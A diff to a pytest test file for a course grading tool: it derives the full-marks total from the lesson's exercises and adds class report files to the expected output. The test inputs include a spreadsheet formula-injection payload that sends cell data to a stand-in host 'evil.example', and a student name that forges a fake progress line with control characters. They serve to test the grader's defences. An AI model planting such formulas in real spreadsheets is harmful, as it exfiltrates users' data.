@@ -11,12 +11,14 @@ from pathlib import Path
 
 import pytest
 
+from course import exercises
 from course.cli import main as course_main
 from course.grading import gradebook
 from course.grading.safe_text import FORMULA_STARTS
 
 CORPUS = Path(__file__).parent / "corpus"
 LESSON = "01_logistic_regression_numpy"
+FULL_MARKS = f"{sum(e.points for e in exercises.for_lesson(LESSON)):g}"   # as the CSV writes it
 FORMULA = '=HYPERLINK("evil.example?"&A1,"Click for your grade")'   # no "/": a folder name
 # A file name cannot hold "/": the fake progress line uses the division slash U+2215.
 FAKE_LINE = f"[9\u22159] fake.ipynb  {LESSON}  11\u221511  (1.0 s)"
@@ -160,7 +162,7 @@ def test_every_file_has_one_row_with_its_student(graded_class):
     rows = {row["student"]: row for row in graded_class["second"]}
     assert sorted(rows) == sorted(["ada", "alice", "bob", "carol", "'" + FORMULA,
                                    f"eve\\x0a{FAKE_LINE}"])
-    assert rows["ada"]["total"] == "11" and rows["carol"]["total"] == "11"
+    assert rows["ada"]["total"] == FULL_MARKS and rows["carol"]["total"] == FULL_MARKS
     assert rows["bob"]["total"] == "0"
     assert "symbolic link" in rows["alice"]["error"] and rows["alice"]["total"] == "0"
     assert "control characters" in rows[f"eve\\x0a{FAKE_LINE}"]["error"]
@@ -195,8 +197,10 @@ def test_no_output_name_collides_and_no_name_carries_a_control_character(graded_
     assert len(names) == len(set(n.casefold() for n in names)) == 6
     expected = {f"{n}{suffix}" for n in names for suffix in (".json", ".results.json")}
     # results.json: Gradescope's file of a run that graded one notebook (Ada's regrade)
-    assert {p.name for p in out.iterdir()} == expected | {"grades.csv", "canvas.csv",
-                                                         "moodle.csv", "results.json"}
+    # and the class report, which course grade writes beside the gradebook
+    assert {p.name for p in out.iterdir()} == expected | {
+        "grades.csv", "canvas.csv", "moodle.csv", "results.json", "class_report.html",
+        "class_report.md", "class_report_figures"}
     assert {p.name for p in feedback.iterdir()} == {f"{n}{s}" for n in names
                                                     for s in (".md", ".html")}
     for path in [*out.iterdir(), *feedback.iterdir()]:
